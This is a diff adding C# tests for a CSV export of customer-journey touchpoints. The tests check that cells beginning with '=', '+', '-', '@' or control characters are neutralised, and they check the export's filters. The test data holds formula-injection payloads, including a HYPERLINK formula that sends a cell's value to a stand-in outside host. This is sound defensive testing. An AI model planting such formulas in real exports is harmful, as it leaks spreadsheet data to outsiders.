@@ -1,0 +1,92 @@
+using System.Globalization;
+using System.Net;
+using CsvHelper;
+using CsvHelper.Configuration;
+using JourneyMapper.Data.Accounts;
+using JourneyMapper.Data.Journal;
+using JourneyMapper.Domain.Journeys;
+using JourneyMapper.Testing;
+using JourneyMapper.Web.Tests.Features.Accounts;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+
+namespace JourneyMapper.Web.Tests.Features.Coverage;
+
+/// <summary>The touchpoints as a file that a spreadsheet opens.</summary>
+public sealed class InventoryEndpointTests : IAsyncLifetime
+{
+    AccountsApp app = null!;
+    Visitor visitor = null!;
+
+    public async Task InitializeAsync()
+    {
+        app = await AccountsApp.WithWorkspacesAsync();
+        await app.AddMemberAsync("mia", Role.Viewer);
+        visitor = app.Visit();
+        (await visitor.SignInAsync("mia")).Dispose();
+    }
+
+    public async Task DisposeAsync()
+    {
+        visitor.Dispose();
+        await app.DisposeAsync();
+    }
+
+    [Theory]
+    [InlineData("=1+1")]
+    [InlineData("+1+1")]
+    [InlineData("-1+1")]
+    [InlineData("@SUM(A1:A9)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("=HYPERLINK(\"https://example.org/?\"&A1,\"Click\")")]
+    [InlineData("=1+1,=2+2;=3+3")]
+    public async Task No_cell_begins_as_a_formula_does(string formula)
+    {
+        await PutAsync(formula, formula);
+        var row = (await RowsAsync("")).ShouldHaveSingleItem();
+        foreach (var cell in row)
+        {
+            "=+-@\t\r\n".Contains(cell.FirstOrDefault(' '), StringComparison.Ordinal).ShouldBeFalse(cell);
+            cell.ShouldNotStartWith("\"=");
+        }
+
+        row[0].ShouldContain("1");
+    }
+
+    [Fact]
+    public async Task The_file_has_what_the_filters_leave()
+    {
+        await PutAsync("A", "Shop", Stage.Awareness, "website");
+        await PutAsync("B", "Counter", Stage.Decision, "store");
+        (await NamesAsync("")).ShouldBe(["Counter", "Shop"]);
+        (await NamesAsync("?stage=Decision")).ShouldBe(["Counter"]);
+        (await NamesAsync("?channel=website")).ShouldBe(["Shop"]);
+        (await NamesAsync("?unowned=true&kpis=None&descending=true")).ShouldBe(["Shop", "Counter"]);
+        (await NamesAsync($"?owner={Guid.NewGuid()}")).ShouldBeEmpty();
+        (await NamesAsync("?kpis=Missed")).ShouldBeEmpty();
+        foreach (var query in new[] { "?stage=9", "?kpis=9", "?sort=9", "?owner=me" })
+            (await visitor.StatusOfAsync($"/coverage/touchpoints.csv{query}")).ShouldBe(HttpStatusCode.BadRequest, query);
+    }
+
+    async Task PutAsync(string title, string name, Stage stage = Stage.Decision, string channel = "") =>
+        await new JourneyStore(app.Services.GetRequiredService<IDbContextFactory<Data.JourneyDbContext>>()).CreateAsync(JourneyDatabase.Workspace, Guid.NewGuid(), new()
+        {
+            Id = Guid.NewGuid(), Title = title, Touchpoints = [new() { Id = Guid.NewGuid(), Stage = stage, Name = name, Channel = channel, Rank = Rank.Between(null, null) }],
+        });
+
+    async Task<IReadOnlyList<string>> NamesAsync(string query) => [.. (await RowsAsync(query)).Select(row => row[0])];
+
+    async Task<IReadOnlyList<string[]>> RowsAsync(string query)
+    {
+        using var response = await visitor.GetAsync($"/coverage/touchpoints.csv{query}");
+        response.StatusCode.ShouldBe(HttpStatusCode.OK);
+        using var text = new StreamReader(await response.Content.ReadAsStreamAsync());
+        using var csv = new CsvParser(text, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = ",", DetectDelimiter = false });
+        var rows = new List<string[]>();
+        while (await csv.ReadAsync())
+            rows.Add(csv.Record!);
+        rows[0].Length.ShouldBeGreaterThan(5);
+        return rows[1..];
+    }
+}
